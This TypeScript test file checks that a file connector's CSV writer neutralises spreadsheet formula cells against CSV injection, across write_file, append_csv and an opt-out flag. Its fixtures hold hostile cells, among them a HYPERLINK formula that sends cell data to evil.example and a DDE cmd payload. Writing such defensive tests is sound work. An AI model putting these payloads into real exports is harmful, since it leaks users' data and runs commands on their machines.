// CSV files written by the file connector do not carry live formulas: a text cell starting
// with =, +, -, @, a tab or a carriage return gets a leading ' (OWASP "CSV injection"), plain
// numbers stay as they are, and neutraliseFormulas: false writes the cells as given.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCatalog } from '../../connectors/index.js';
import { tempDir } from '../helpers/temp-dir.js';
import { callOperation } from './helpers.js';

let base: ReturnType<typeof tempDir>;
let filesDir: string;
const run = (operation: string, raw: Record<string, unknown>) =>
  callOperation(createCatalog({ filesDir }), 'file', operation, raw);
const get = (name: string) => readFileSync(path.join(filesDir, name), 'utf8');

beforeEach(() => {
  base = tempDir('stepwise-formulas-');
  filesDir = path.join(base.path, 'files');
});
afterEach(() => base.remove());

const hostile = [
  { cell: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  { cell: '+cmd|" /C calc"!A0' },
  { cell: '-2+3' },
  { cell: '@SUM(A1:A9)' },
  { cell: '\t=1+1' },
  { cell: '-12.5' },
  { cell: '+44 20 7946 0000' },
  { cell: 'plain text' },
  { cell: 42 },
];

describe('CSV formulas', () => {
  it('neutralises formula cells written by write_file, leaving numbers and text alone', async () => {
    await run('write_file', { path: 'out.csv', format: 'csv', rows: hostile });
    const lines = get('out.csv').split('\n');
    expect(lines.slice(0, 10)).toEqual([
      'cell',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      `"'+cmd|"" /C calc""!A0"`,
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      '-12.5',
      "'+44 20 7946 0000",
      'plain text',
      '42',
    ]);
  });

  it('neutralises them in append_csv, for a new file and an existing one', async () => {
    await run('append_csv', { path: 'log.csv', rows: [{ a: '=1+1' }] });
    await run('append_csv', { path: 'log.csv', rows: [{ a: '@evil' }, { a: 'fine' }] });
    expect(get('log.csv')).toBe("a\n'=1+1\n'@evil\nfine\n");
  });

  it('writes cells as given with neutraliseFormulas: false', async () => {
    await run('write_file', {
      path: 'raw.csv',
      format: 'csv',
      rows: [{ f: '=SUM(1,2)' }],
      neutraliseFormulas: false,
    });
    expect(get('raw.csv')).toBe('f\n"=SUM(1,2)"\n');
    await run('append_csv', { path: 'raw.csv', rows: [{ f: '=1' }], neutraliseFormulas: false });
    expect(get('raw.csv')).toBe('f\n"=SUM(1,2)"\n=1\n');
  });
});
